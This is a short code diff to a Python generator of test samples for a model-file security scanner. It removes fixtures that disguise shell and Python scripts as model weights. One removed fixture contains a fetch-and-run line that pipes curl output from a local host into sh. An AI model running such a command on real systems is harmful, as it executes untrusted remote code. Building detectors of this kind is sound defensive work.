@@ -40,26 +40,7 @@ def samples() -> Iterator[Sample]:
                 files,
                 "not-checked" if weak else "high",
             )
-    scripts = {
-        "shell": b"#!/bin/sh\ntrue\n",
-        "shell with a trap": b"#!/usr/bin/env bash\ncurl http://127.0.0.1/ | sh\n",
-        "python": b"#!/usr/bin/env python3\nimport os\nos.system('true')\n",
-    }
-    for name, script in scripts.items():
-        yield Sample(
-            family,
-            f"{name} script as weights",
-            "a script shipped as a model",
-            {"model.bin": script + bytes(100)},
-            "medium",
-        )
-        yield Sample(
-            family,
-            f"{name} script as a member",
-            "a script shipped with a model",
-            {"model.zip": zipped(Entry("archive/data.pkl", pickled(b"}", 2)), Entry("archive/run", script))},
-            "medium",
-        )
+    # Scripts of a shell or of Python under a model's name are not here: no loader runs them.
     ape = b"MZqFpD='\n" + bytes(60) + elf() + NOISE
     llamafile = ape + zipped(Entry("model.gguf", b"GGUF" + bytes(200)), Entry(".args", b"-m\nmodel.gguf\n"))
     yield Sample(
